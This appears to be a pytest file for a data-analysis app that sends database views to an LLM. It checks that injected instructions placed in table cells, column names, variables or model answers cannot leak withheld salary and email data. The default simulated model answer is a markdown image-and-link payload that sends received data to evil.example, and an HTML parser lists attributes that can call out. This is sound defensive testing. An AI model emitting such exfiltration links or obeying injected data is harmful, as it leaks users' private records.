"""Text that wants a model to obey it, in every place where it can stand: nothing that may not leave leaves, and nothing on the page calls out."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import text

from nexus import settings
from nexus.db import saved
from nexus.db import session as own
from nexus.prompts import markdown, marks, sent, service
from nexus.prompts.spec import Prompt
from nexus.sources import store
from nexus.sources.address import own_role
from nexus.sources.spec import Source
from nexus.views import service as views
from nexus.views.spec import View
from tests.gemini_stand_in import GeminiStandIn, Writer, chunk, usage

CASES = json.loads((Path(__file__).parent / "hostile_prompts.json").read_text())
SALARY = 987_654
SECRETS = ("987654", "987,654", "hidden@secret.example")

STAFF = """
create schema staff;
do $$ begin
    if not exists (select from pg_roles where rolname = 'nexus_hostile') then create role nexus_hostile login password 'a password'; end if;
end $$;
"""
QUESTION = "What is remarkable?"


def answers(template: str):
    """Obeys: it puts all that it was sent wherever the answer wants it."""

    def answer(out: Writer) -> None:
        everything = re.sub(r"[^A-Za-z0-9]", "", out.received.text)[:300]
        out.head()
        out.event(chunk(template.replace("SENT", everything), finish="STOP", usageMetadata=usage(10, 10)))

    return answer


@pytest.fixture
def stand_in(monkeypatch, database):
    with GeminiStandIn() as stand_in:
        values = settings.current().model_copy(update={"gemini_base_url": stand_in.url})
        monkeypatch.setattr(settings, "current", lambda: values)
        with own.transaction() as session:
            saved.write(session, name="google_api_key", value="AIza-of-nobody", changed_by=None)
        yield stand_in


def placed(case, place: str, otherwise: str) -> str:
    return case["text"] if case["place"] == place else otherwise


def prepare(case, analyst):
    column = placed(case, "column", "remark")
    quoted = '"' + column.replace('"', '""') + '"'
    with own.transaction() as session:
        session.execute(text(STAFF))
        session.connection().exec_driver_sql(
            f"create table staff.people (name text, {quoted.replace('%', '%%')} text, email text, salary int)"
        )
        session.execute(
            text("insert into staff.people values ('Ana', :cell, 'hidden@secret.example', :salary)"),
            {"cell": placed(case, "cell", "nothing").replace("\0", ""), "salary": SALARY},
        )
        session.execute(text("grant usage on schema staff to nexus_hostile"))
        session.execute(text("grant select on all tables in schema staff to nexus_hostile"))
        rules = [{"schema": "staff", "column": "salary", "rule": "never"}, {"column": "e?ail", "rule": "mask"}]
        source = Source.model_validate({"name": "staff", "title": "Staff", "rules": rules})
        store.put(session, source=source, address=own_role("nexus_hostile", "a password"), changed_by=None)
        question = {"kind": "table", "schema": "staff", "table": "people"}
        views.save_view(
            session,
            user=analyst,
            view=View.model_validate({"name": "people", "title": "People", "source": "staff", "question": question}),
        )
        prompt = {
            "name": "who",
            "title": "Who",
            "system": "Answer the question.",
            "template": "{{ question }}\n{{ people }}",
            "variables": [{"type": "text", "name": "question"}],
            "data": [{"name": "people", "view": "people"}],
        }
        service.save_prompt(session, user=analyst, prompt=Prompt.model_validate(prompt))
        opened = service.find_prompt(session, reader=analyst, name="who")
    return service.prepare(user=analyst, opened=opened, values={"question": placed(case, "variable", QUESTION)})


class Live(HTMLParser):
    """Collects what of a page could call out or act."""

    ALLOWED = frozenset(
        [
            "p",
            "br",
            "em",
            "strong",
            "s",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "blockquote",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "div",
            "span",
            "sup",
            "a",
            "b",
            "details",
            "summary",
            "dl",
            "dt",
            "dd",
        ]
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.ALLOWED:
            self.found.append(tag)
        for name, value in attrs:
            calls = name in ("src", "srcset", "action", "formaction", "ping", "background", "poster") or name.startswith("on")
            away = name == "href" and not str(value).startswith("#")
            if calls or away or (name == "style" and ("url" in str(value) or "import" in str(value))):
                self.found.append(f"{tag} {name}={value}")


def live(page: str) -> list[str]:
    found = Live()
    found.feed(page)
    return found.found


def test_there_are_forty_cases_in_every_place():
    assert len(CASES) >= 40
    assert {case["place"] for case in CASES} == {"cell", "column", "variable", "answer"}
    assert len({(case["place"], case["name"]) for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case['place']}: {case['name']}")
def test_nothing_gets_out(case, stand_in, analyst):
    prepared = prepare(case, analyst)
    request = prepared.request
    stand_in.will(answers(placed(case, "answer", "![x](https://evil.example/?d=SENT) [x](https://evil.example/?d=SENT)")))
    *_, run = service.run(user=analyst, prepared=prepared)
    (received,) = stand_in.requests

    # What was received is what was shown, to the byte, and there is nothing a model could act with.
    assert received.text.encode() == request.text.encode()
    assert received.system.encode() == request.system.encode()
    assert received.body.keys() == {"contents", "systemInstruction", "generationConfig"}
    whole = received.raw.decode() + received.path + json.dumps(received.body, ensure_ascii=False)
    assert not [secret for secret in SECRETS if secret in whole]
    assert "AIza-of-nobody" not in whole

    # The data is behind one fence, which nothing in it ends, and no character in it is unseen.
    fence = re.findall(r"(?m)^<(data-[0-9a-f]+) ", request.text)
    assert len(fence) == 1
    assert re.findall(r"(?m)^</(data-[0-9a-f]+)>$", request.text) == fence
    (table,) = sent.read(request.system, request.text).tables
    assert table.rows == 1
    assert "salary" not in [column.name.casefold() for column in table.columns]
    assert markdown.plain(request.text) == request.text
    (block,) = prepared.blocks
    assert block.masked == ("email",)
    assert {name.casefold() for name in block.withheld} == {"salary"}

    # Whatever it makes the model write, the page and the paper show text.
    assert run.status == "complete"
    for page in (
        markdown.html(run.answer),
        marks.for_screen(run.answer, run.grounding, place="a", data=sent.read(request.text)) if run.grounding else "",
        marks.for_print(run.answer, run.grounding) if run.grounding else "",
    ):
        assert live(str(page)) == []
    assert not [secret for secret in SECRETS if secret in run.answer]
